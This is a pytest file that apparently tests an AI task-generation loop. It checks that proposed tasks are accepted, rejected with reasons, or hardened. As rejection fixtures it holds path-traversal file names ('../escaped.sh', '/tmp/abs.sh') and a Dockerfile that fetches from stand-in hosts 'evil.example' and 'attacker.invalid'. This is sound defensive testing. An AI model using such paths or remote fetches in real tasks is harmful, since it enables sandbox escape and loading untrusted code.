"""The generation loop end to end on tiny tasks: local sandboxes, scripted setter and solver."""

from __future__ import annotations

import asyncio
import json
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from crucible.generate.loop import GenConfig, Generator
from tests.generate.scripted import Solver, is_hardening, propose, task_files
from tests.helpers.fake_openai import FakeOpenAI, Step


def test_accepts_an_in_band_task_with_its_proofs_on_disk(
    setter_server: FakeOpenAI, solver_server: FakeOpenAI, make_cfg: Callable[..., GenConfig]
) -> None:
    setter_server.push(propose(task_files("alpha")))
    solver = Solver({"alpha": [True, False]})
    solver_server.push(*[solver] * 20)
    cfg = make_cfg()
    state = asyncio.run(Generator(cfg).run())
    (p,) = state.proposals
    assert (p.outcome, p.reason, p.message and p.reason) == ("accepted", None, None), p.message
    assert (p.n_attempts, p.n_solved, p.pass_at_1) == (2, 1, 0.5)
    task = cfg.out / "tasks" / p.name
    meta = tomllib.loads((task / "task.toml").read_text())["metadata"]
    assert meta["root"] == p.name and meta["generation"] == 0 and meta["mode"] == "selfplay"
    jobs = cfg.out / "proposals" / p.name / "jobs"
    assert {d.name for d in jobs.iterdir() if d.is_dir()} >= {
        "oracle",
        "nop",
        "fail-wrong",
        "solve",
    }
    assert json.loads((cfg.out / "result.json").read_text())["outcomes"] == {"accepted": 1}


def test_each_failure_kind_is_rejected_with_its_reason_and_evidence(
    setter_server: FakeOpenAI,
    solver_server: FakeOpenAI,
    make_cfg: Callable[..., GenConfig],
    tmp_path: Path,
) -> None:
    hostile_paths = task_files("delta")
    hostile_paths["files"]["../escaped.sh"] = "echo pwned"
    hostile_paths["files"]["/tmp/abs.sh"] = "echo pwned"
    evil_docker = "FROM evil.example/base:latest\nADD http://attacker.invalid/x /x\n"
    plan = [
        ("leaked_solution", propose(task_files("leak", leak=True))),
        ("failing_oracle", propose(task_files("broken", oracle_ok=False))),
        ("passing_nop", propose(task_files("free", nop_passes=True))),
        ("passing_failure", propose(task_files("weak", failure_passes=True))),
        (None, propose(task_files("beta"))),
        ("duplicate", propose(task_files("beta"))),
        ("hostile_dockerfile", propose(task_files("evil", dockerfile=evil_docker))),
        ("hostile_path", propose(hostile_paths)),
        (None, propose(task_files("gamma"), as_text=True)),  # no tool call: one json block
    ]
    setter_server.push(*(step for _, step in plan))
    solver = Solver({"beta": [True, False], "gamma": [False, True]})
    solver_server.push(*[solver] * 40)
    cfg = make_cfg(max_tasks=10, max_proposals=len(plan))
    state = asyncio.run(Generator(cfg).run())
    got = [p.reason if p.outcome == "rejected" else None for p in state.proposals]
    assert got == [want for want, _ in plan], [p.message for p in state.proposals]
    for p in state.proposals:
        if p.outcome == "rejected":
            reason = json.loads((cfg.out / "rejected" / p.name / "reason.json").read_text())
            assert reason["reason"] == p.reason
    # evidence: the failing oracle's three runs and the passing failure case's run
    broken = cfg.out / "rejected" / state.proposals[1].name / "jobs" / "oracle"
    assert len([d for d in broken.iterdir() if (d / "result.json").exists()]) == 3
    weak = cfg.out / "rejected" / state.proposals[3].name / "jobs" / "fail-wrong"
    assert any((d / "result.json").exists() for d in weak.iterdir())
    # the hostile paths wrote nothing, anywhere
    assert not (cfg.out / "proposals" / "escaped.sh").exists()
    assert not list(tmp_path.rglob("escaped.sh")) and not Path("/tmp/abs.sh").exists()
    assert not (cfg.out / "rejected" / state.proposals[7].name / "task").exists()
    assert sorted(p.name for p in (cfg.out / "tasks").iterdir()) == sorted(
        p.name for p in state.proposals if p.outcome == "accepted"
    )


def test_hardening_takes_a_too_easy_task_into_the_band(
    setter_server: FakeOpenAI, solver_server: FakeOpenAI, make_cfg: Callable[..., GenConfig]
) -> None:
    def setter(body: dict[str, Any]) -> Step:
        if is_hardening(body):
            assert "easy-value-of-the-task" in body["messages"][-1]["content"]
            assert "solve.sh" not in body["messages"][-1]["content"]  # the solution is left out
            return propose(task_files("harder"))
        return propose(task_files("easy"))

    setter_server.push(setter, setter)
    solver = Solver({"easy": [True], "harder": [True, False]})
    solver_server.push(*[solver] * 20)
    cfg = make_cfg(max_tasks=1, max_proposals=2)
    state = asyncio.run(Generator(cfg).run())
    parent, child = state.proposals
    assert (parent.outcome, child.outcome) == ("easy", "accepted")
    assert (parent.pass_at_1, child.pass_at_1) == (1.0, 0.5)
    meta = tomllib.loads((cfg.out / "tasks" / child.name / "task.toml").read_text())["metadata"]
    assert {k: meta[k] for k in ("parent", "root", "generation", "operator", "source")} == {
        "parent": parent.name,
        "root": parent.name,
        "generation": 1,
        "operator": "add_contract",
        "source": parent.name,
    }
    assert (cfg.out / "easy" / parent.name / "task.toml").exists()
